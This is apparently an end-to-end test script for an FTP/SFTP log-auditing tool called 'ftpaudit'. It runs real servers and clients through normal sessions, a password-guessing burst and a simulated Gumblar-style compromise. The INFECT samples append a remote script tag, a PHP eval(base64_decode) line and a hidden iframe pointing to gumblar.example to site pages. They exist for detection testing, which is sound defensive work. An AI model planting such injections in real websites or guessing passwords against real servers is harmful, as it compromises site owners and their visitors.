#!/usr/bin/env python3
"""End-to-end test: real FTP/SFTP servers, real clients, real logs.

    e2e.py FTPAUDIT SOURCE_ROOT [RUN...]

Starts vsftpd, ProFTPD (+ mod_sftp), OpenSSH sshd (internal-sftp, logging
through rsyslogd) and Pure-FTPd one after the other, each on a free high
port of 127.0.0.1 with a throw-away configuration under a temporary folder,
drives each with lftp, curl and OpenSSH's sftp from source addresses inside
127.0.0.0/8, and checks what ftpaudit makes of the logs the servers wrote:

* `ftpaudit parse`: every client action (logins, failed logins, uploads,
  downloads, deletes, renames, mkdirs, ...) is an event with the right
  user, address, path and size, in every log file the server wrote, and
  no action shows up twice;
* `ftpaudit scan --format json --geoip DB HISTORY LIVE`: with several weeks
  of generated history in the same format, exactly one account is reported
  high or critical -- the one a "foreign" address logged into to download
  three pages and upload them back larger -- with that address, country
  CN and the three rewritten files; nothing else reaches high.

Runs are serial (they share /dev/log, the users' web folders and the
scenario addresses).  Servers are stopped by PID whatever happens.  Needs
root and the packages tests/e2e/install.sh installs (it is run first unless
FTPAUDIT_E2E_INSTALL=0); without root the test exits 77 (skipped).

Environment: FTPAUDIT_E2E=0 skips the test; FTPAUDIT_E2E_ROOT is where
install.sh put the unpacked servers and the homes (/var/lib/ftpaudit-e2e);
FTPAUDIT_E2E_KEEP=1 keeps the temporary folder (it is kept anyway when a
check failed); RUN names (vsftpd, vsftpd-protocol, proftpd, sshd,
pureftpd) pick runs.
"""

import datetime as dt
import json
import os
import pwd
import random
import shutil
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import time

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.environ.get('FTPAUDIT_E2E_ROOT', '/var/lib/ftpaudit-e2e')

ALICE, BOB = 'e2e-alice', 'e2e-bob'
PASSWORD = {ALICE: ALICE + '-Secret1', BOB: BOB + '-Secret1'}

# Source addresses, and what the test GeoIP database says about them.
IP_ALICE = '127.0.0.10'     # alice's office (home ISP, JP)
IP_ALICE2 = '127.0.0.12'    # alice, same ISP, in the history only
IP_BOB = '127.0.0.11'       # bob's office (home ISP, JP)
IP_BOB2 = '127.0.0.20'      # bob's second machine (home ISP, JP)
IP_BURST = '127.0.0.200'    # password guessing (another JP network)
IP_EVIL = '127.0.0.150'     # the stolen-credential login (CN)
GEO_NETS = [
    '127.0.0.0/25=JP:64500:Example Home ISP',
    '127.0.0.128/26=CN:64501:Example CN Hosting',
    '127.0.0.192/26=JP:64502:Example JP Mobile',
]
SEVERE = ('high', 'critical')

# Web folder each run starts from (rebuilt before every scenario).
SITE = {
    'index.html': ('<!doctype html>\n<html><head><title>Example shop'
                   '</title></head>\n<body><h1>Welcome</h1>\n<p>Opening '
                   'hours: 9-18.</p>\n<script src="js/app.js"></script>\n'
                   '</body></html>\n'),
    'about.php': ('<?php\n$year = date("Y");\necho "<p>About us, since '
                  '1999 ($year)</p>";\n'),
    'js/app.js': ('document.addEventListener("DOMContentLoaded", function () '
                  '{\n  console.log("shop ready");\n});\n'),
    'robots.txt': 'User-agent: *\nDisallow: /tmp/\n',
    'images/logo.png': None,   # 2048 pseudo-random bytes
}
# What the Gumblar-like session appends to each page it rewrites.
INFECT = {
    'index.html': '<script src="http://gumblar.example/x.js"></script>\n',
    'about.php': '<?php eval(base64_decode("ZWNobyAiaGkiOw==")); ?>\n',
    'js/app.js': ('document.write(\'<iframe src="http://gumblar.example/" '
                  'width=0 height=0></iframe>\');\n'),
}


class Skip(Exception):
    """A run cannot happen on this machine (said why); not a failure."""


# ---------------------------------------------------------------- results

class Results:
    def __init__(self):
        self.passed = 0
        self.failed = 0
        self.skipped = 0
        self.failures = []

    def check(self, ok, what, detail=''):
        if ok:
            self.passed += 1
            print(f'ok   {what}')
        else:
            self.failed += 1
            self.failures.append(what)
            print(f'FAIL {what}' + (f'\n     {detail}' if detail else ''))
        sys.stdout.flush()
        return ok

    def skip(self, what, why):
        self.skipped += 1
        print(f'skip {what}: {why}')
        sys.stdout.flush()


R = Results()


def log(msg):
    print(f'# {msg}')
    sys.stdout.flush()


# ------------------------------------------------------- processes, ports

def descendants(pid):
    """PIDs whose parent chain reaches pid (read from /proc)."""
    parent = {}
    for d in os.listdir('/proc'):
        if not d.isdigit():
            continue
        try:
            with open(f'/proc/{d}/stat') as f:
                s = f.read()
        except OSError:
            continue
        # comm may hold spaces and parentheses: the ppid follows the last ')'
        parent[int(d)] = int(s[s.rindex(')') + 2:].split()[1])
    out, todo = [], [pid]
    while todo:
        p = todo.pop()
        kids = [c for c, pp in parent.items() if pp == p]
        out += kids
        todo += kids
    return out


def alive(pid):
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    except PermissionError:
        return True
    try:
        with open(f'/proc/{pid}/stat') as f:
            return f.read().split(')')[-1].split()[0] != 'Z'
    except OSError:
        return False


class Procs:
    """Every daemon this test starts, so that all of them get stopped."""

    def __init__(self):
        self.items = []   # (name, pid, Popen or None)

    def spawn(self, name, argv, out, env=None, stdin=None):
        p = subprocess.Popen(argv, stdin=stdin or subprocess.DEVNULL,
                             stdout=out, stderr=subprocess.STDOUT,
                             start_new_session=True, env=env)
        self.items.append((name, p.pid, p))
        return p

    def adopt(self, name, pid):
        self.items.append((name, pid, None))

    def stop(self, name):
        keep = []
        for item in self.items:
            if item[0] == name:
                self._stop(*item)
            else:
                keep.append(item)
        self.items = keep

    def stop_all(self):
        for item in reversed(self.items):
            self._stop(*item)
        self.items = []

    @staticmethod
    def _stop(name, pid, popen):
        # The daemon first (it ends its sessions), then whatever of its
        # children outlived it: sshd's session processes leave its process
        # group, so the group alone is not enough.
        kids = descendants(pid)
        for p in [pid] + kids:
            try:
                os.kill(p, signal.SIGTERM)
            except ProcessLookupError:
                pass
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline:
            if popen is not None:
                popen.poll()
            if not any(alive(p) for p in [pid] + kids):
                break
            time.sleep(0.02)
        for p in [pid] + kids:
            if alive(p):
                log(f'{name}: pid {p} ignored SIGTERM, killing it')
                try:
                    os.kill(p, signal.SIGKILL)
                except ProcessLookupError:
                    pass
        if popen is not None:
            try:
                popen.wait(timeout=5)
            except subprocess.TimeoutExpired:
                pass


PROCS = Procs()


def listening_ports():
    ports = set()
    for name in ('/proc/net/tcp', '/proc/net/tcp6'):
        try:
            with open(name) as f:
                next(f)
                for line in f:
                    fields = line.split()
                    if fields[3] == '0A':
                        ports.add(int(fields[1].rsplit(':', 1)[1], 16))
        except OSError:
            pass
    return ports


def used_ports():
    ports = set()
    for name in ('/proc/net/tcp', '/proc/net/tcp6'):
        try:
            with open(name) as f:
                next(f)
                for line in f:
                    ports.add(int(line.split()[1].rsplit(':', 1)[1], 16))
        except OSError:
            pass
    return ports


def free_range(start, n):
    """First run of n ports from start on that nothing uses."""
    used = used_ports()
    p = start
    while p + n < 65000:
        if not any(q in used for q in range(p, p + n)):
            return p
        p += n
    raise RuntimeError('no free port range')


def wait_listening(ports, proc=None, timeout=10.0):
    """Wait until every port listens, without connecting (a probe would be
    a session in the log).  False when proc died or time ran out."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if set(ports) <= listening_ports():
            return True
        if proc is not None and proc.poll() is not None:
            return False
        time.sleep(0.01)
    return False


def run(argv, timeout=60, **kw):
    return subprocess.run(argv, timeout=timeout, capture_output=True,
                          text=True, **kw)


# ----------------------------------------------------------------- syslog

def dev_log_state():
    """'absent', 'stale' (a socket nobody reads) or 'live'."""
    try:
        st = os.lstat('/dev/log')
    except FileNotFoundError:
        return 'absent'
    if not stat.S_ISSOCK(st.st_mode):
        return 'live'   # a symlink (journald) or something else: not ours
    s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    try:
        s.connect('/dev/log')
        return 'live'
    except OSError:
        return 'stale'
    finally:
        s.close()


class Rsyslog:
    """rsyslogd on /dev/log writing everything to one file in Debian 12's
    default format (RFC 3339 stamps), as /var/log/auth.log looks."""

    def __init__(self, work, out):
        self.work, self.out = work, out

    def start(self):
        state = dev_log_state()
        if state == 'live':
            raise Skip('/dev/log belongs to a running syslog daemon')
        if state == 'stale':
            os.unlink('/dev/log')
        os.makedirs(self.work, exist_ok=True)
        conf = os.path.join(self.work, 'rsyslog.conf')
        with open(conf, 'w') as f:
            f.write(f'global(workDirectory="{self.work}")\n'
                    'module(load="imuxsock")\n'
                    f'*.* action(type="omfile" file="{self.out}" '
                    'template="RSYSLOG_FileFormat")\n')
        self.pidfile = os.path.join(self.work, 'rsyslogd.pid')
        self.p = PROCS.spawn('rsyslogd', ['rsyslogd', '-n', '-f', conf, '-i',
                                          self.pidfile],
                             open(os.path.join(self.work, 'stderr'), 'w'))
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            if dev_log_state() == 'live':
                return
            if self.p.poll() is not None:
                break
            time.sleep(0.01)
        raise RuntimeError('rsyslogd did not open /dev/log: ' +
                           open(os.path.join(self.work, 'stderr')).read())

    def stop(self):
        # Give the last datagrams a moment to be written, then stop (which
        # flushes the file).
        time.sleep(0.3)
        PROCS.stop('rsyslogd')
        if dev_log_state() != 'live':
            try:
                os.unlink('/dev/log')
            except FileNotFoundError:
                pass


# ------------------------------------------------------------- web folder

def logo_bytes():
    rnd = random.Random(42)
    return bytes(rnd.randrange(256) for _ in range(2048))


def home(user):
    return pwd.getpwnam(user).pw_dir


def site_path(user, rel):
    return os.path.join(home(user), 'public_html', rel)


def build_site():
    for user in (ALICE, BOB):
        pw = pwd.getpwnam(user)
        web = os.path.join(pw.pw_dir, 'public_html')
        shutil.rmtree(web, ignore_errors=True)
        for rel, text in SITE.items():
            path = os.path.join(web, rel)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            data = logo_bytes() if text is None else text.encode()
            # bob's pages differ a little: sizes tell the accounts apart
            if user == BOB and rel == 'index.html':
                data = data.replace(b'Example shop', b'Bob shop')
            with open(path, 'wb') as f:
                f.write(data)
        for dirpath, dirs, files in os.walk(web):
            os.chown(dirpath, pw.pw_uid, pw.pw_gid)
            os.chmod(dirpath, 0o755)
            for name in files:
                os.chown(os.path.join(dirpath, name), pw.pw_uid, pw.pw_gid)
                os.chmod(os.path.join(dirpath, name), 0o644)


def size_of(user, rel):
    return os.path.getsize(site_path(user, rel))


# ---------------------------------------------------------------- clients

class Facts:
    """What the clients did, as the events a log should turn into."""

    def __init__(self):
        self.items = []

    def add(self, action, user, ip, rel=None, rel2=None, size=None,
            outcome='success', step=''):
        self.items.append(dict(action=action, user=user, ip=ip, rel=rel,
                               rel2=rel2, size=size, outcome=outcome,
                               step=step))


SSH_OPTS = ('-a -x -o StrictHostKeyChecking=no '
            '-o UserKnownHostsFile=/dev/null -o LogLevel=ERROR '
            '-o PubkeyAuthentication=no '
            '-o PreferredAuthentications=password,keyboard-interactive '
            '-o NumberOfPasswordPrompts=1')


class Client:
    """The real clients, each bound to a source address."""

    def __init__(self, work, proto, port):
        self.work, self.proto, self.port = work, proto, port
        self.n = 0

    def _dir(self):
        self.n += 1
        d = os.path.join(self.work, f'client{self.n}')
        os.makedirs(d)
        return d

    def lftp(self, src, user, commands, d=None):
        d = d or self._dir()
        lines = ['set cmd:fail-exit yes', 'set net:max-retries 2',
                 'set net:reconnect-interval-base 1', 'set net:timeout 15',
                 'set xfer:clobber yes', 'set ftp:ssl-allow no',
                 'set ftp:passive-mode yes',
                 f'set net:socket-bind-ipv4 {src}']
        if self.proto == 'sftp':
            lines.append(f'set sftp:connect-program "ssh {SSH_OPTS} '
                         f'-o BindAddress={src}"')
        lines.append(f'open -u {user},{PASSWORD[user]} '
                     f'{self.proto}://127.0.0.1:{self.port}')
        lines += [f'lcd {d}'] + commands + ['bye']
        script = os.path.join(d, 'script.lftp')
        with open(script, 'w') as f:
            f.write('\n'.join(lines) + '\n')
        r = run(['lftp', '-f', script], cwd=d)
        if r.returncode != 0:
            raise RuntimeError(f'lftp {src} {user}: exit {r.returncode}: '
                               f'{r.stdout}{r.stderr}')
        return d

    def url(self, path):
        if self.proto == 'sftp':
            return f'sftp://127.0.0.1:{self.port}/~/{path}'
        return f'ftp://127.0.0.1:{self.port}/{path}'

    def curl_args(self, src, user, password):
        a = ['curl', '-sS', '--interface', src, '-u', f'{user}:{password}']
        if self.proto == 'sftp':
            a.append('-k')
        return a

    def attempt(self, src, user, password):
        """One login attempt; returns the process (started, not waited)."""
        d = self._dir()
        if self.proto == 'sftp':
            batch = os.path.join(d, 'batch')
            with open(batch, 'w') as f:
                f.write('ls\n')
            # -b implies BatchMode=yes (no password prompt): the first
            # BatchMode given wins, so say no before -b.
            argv = (['sshpass', '-p', password, 'sftp', '-o', 'BatchMode=no']
                    + SSH_OPTS.split() + ['-o', f'BindAddress={src}', '-P',
                                          str(self.port), '-b', batch,
                                          f'{user}@127.0.0.1'])
        else:
            argv = self.curl_args(src, user, password) + [
                self.url('public_html/' if user == ALICE else ''),
                '-o', '/dev/null']
        return subprocess.Popen(argv, cwd=d, stdout=subprocess.PIPE,
                                stderr=subprocess.STDOUT, text=True)


def scenario(client, facts, nouser):
    """The five sessions of the story, in order."""
    a, b = ALICE, BOB

    # 1. alice's normal day from her office: look around, fetch, publish.
    log('  1 normal session: alice from ' + IP_ALICE)
    d = client._dir()
    news = os.path.join(d, 'news.html')
    with open(news, 'w') as f:
        f.write('<p>News: we are closed on Monday for the inventory.</p>\n')
    facts.add('login', a, IP_ALICE, step='normal-alice')
    for rel in ('index.html', 'robots.txt', 'images/logo.png'):
        facts.add('download', a, IP_ALICE, 'public_html/' + rel,
                  size=size_of(a, rel),
                  step='normal-alice')
    facts.add('upload', a, IP_ALICE, 'public_html/news.html',
              size=os.path.getsize(news), step='normal-alice')
    client.lftp(IP_ALICE, a, ['cd public_html', 'ls', 'get index.html',
                              'get robots.txt', 'get images/logo.png',
                              'put news.html', 'ls'], d)

    # 2. bob with curl over one connection: list, two downloads, an upload.
    log('  2 normal session: bob from ' + IP_BOB + ' (curl)')
    d = client._dir()
    notes = os.path.join(d, 'notes.txt')
    with open(notes, 'w') as f:
        f.write('call the bank\n')
    facts.add('login', b, IP_BOB, step='normal-bob')
    for rel in ('index.html', 'js/app.js'):
        facts.add('download', b, IP_BOB, 'public_html/' + rel,
                  size=size_of(b, rel), step='normal-bob')
    facts.add('upload', b, IP_BOB, 'public_html/notes.txt',
              size=os.path.getsize(notes), step='normal-bob')
    base = client.curl_args(IP_BOB, b, PASSWORD[b])
    r = run(base + [client.url('public_html/'), '-o', 'list.txt',
                    client.url('public_html/index.html'), '-o', 'index.html',
                    client.url('public_html/js/app.js'), '-o', 'app.js',
                    '--next'] + base[1:] +
            ['-T', 'notes.txt', client.url('public_html/notes.txt')], cwd=d)
    if r.returncode != 0:
        raise RuntimeError(f'curl bob: exit {r.returncode}: {r.stderr}')

    # 3. password guessing from one address, six attempts at once (each
    # wrong password costs PAM's ~2 s delay, so in parallel).
    log('  3 failed-login burst from ' + IP_BURST)
    tries = [(a, 'password'), (a, '123456'), (a, 'alice2024'),
             (a, 'E2e-alice-secret1'), (nouser, nouser), ('root', 'toor')]
    procs = [client.attempt(IP_BURST, u, p) for u, p in tries]
    for (u, _), p in zip(tries, procs):
        out, _ = p.communicate(timeout=60)
        if p.returncode == 0:
            raise RuntimeError(f'wrong password for {u} was accepted: {out}')
        facts.add('login', u, IP_BURST, outcome='failure', step='burst')

    # 4. stolen credentials: a never-seen address (CN) fetches three pages
    # and puts them back with a payload appended, all within a second.
    log('  4 Gumblar-like session: alice from ' + IP_EVIL)
    d = client._dir()
    inject = os.path.join(d, 'inject.py')
    with open(inject, 'w') as f:
        f.write('import sys\n')
        for rel, payload in INFECT.items():
            name = os.path.basename(rel)
            f.write(f'open({os.path.join(d, name)!r}, "a")'
                    f'.write({payload!r})\n')
    facts.add('login', a, IP_EVIL, step='gumblar')
    for rel in INFECT:
        facts.add('download', a, IP_EVIL, 'public_html/' + rel,
                  size=size_of(a, rel), step='gumblar')
    for rel, payload in INFECT.items():
        facts.add('upload', a, IP_EVIL, 'public_html/' + rel,
                  size=size_of(a, rel) + len(payload.encode()),
                  step='gumblar')
    client.lftp(IP_EVIL, a, ['cd public_html', 'get index.html',
                             'get about.php', 'get js/app.js',
                             f'!{sys.executable} {inject}',
                             'put index.html', 'put about.php',
                             'put app.js -o js/app.js'], d)
    for rel in INFECT:
        got = os.path.getsize(os.path.join(d, os.path.basename(rel)))
        now = size_of(a, rel)
        if got != now:
            raise RuntimeError(f'upload of {rel}: server has {now} bytes, '
                               f'client sent {got}')

    # 5. bob tidies up from his second machine.
    log('  5 housekeeping: bob from ' + IP_BOB2)
    facts.add('login', b, IP_BOB2, step='housekeeping')
    facts.add('mkdir', b, IP_BOB2, 'public_html/old', step='housekeeping')
    facts.add('rename', b, IP_BOB2, 'public_html/index.html',
              'public_html/old/index.html.bak', step='housekeeping')
    facts.add('delete', b, IP_BOB2, 'public_html/robots.txt',
              size=size_of(b, 'robots.txt'), step='housekeeping')
    facts.add('mkdir', b, IP_BOB2, 'public_html/tmpdir', step='housekeeping')
    facts.add('rmdir', b, IP_BOB2, 'public_html/tmpdir', step='housekeeping')
    facts.add('chmod', b, IP_BOB2, 'public_html/notes.txt',
              step='housekeeping')
    client.lftp(IP_BOB2, b, ['cd public_html', 'mkdir old',
                             'mv index.html old/index.html.bak',
                             'rm robots.txt', 'mkdir tmpdir', 'rmdir tmpdir',
                             'chmod 600 notes.txt', 'ls'])
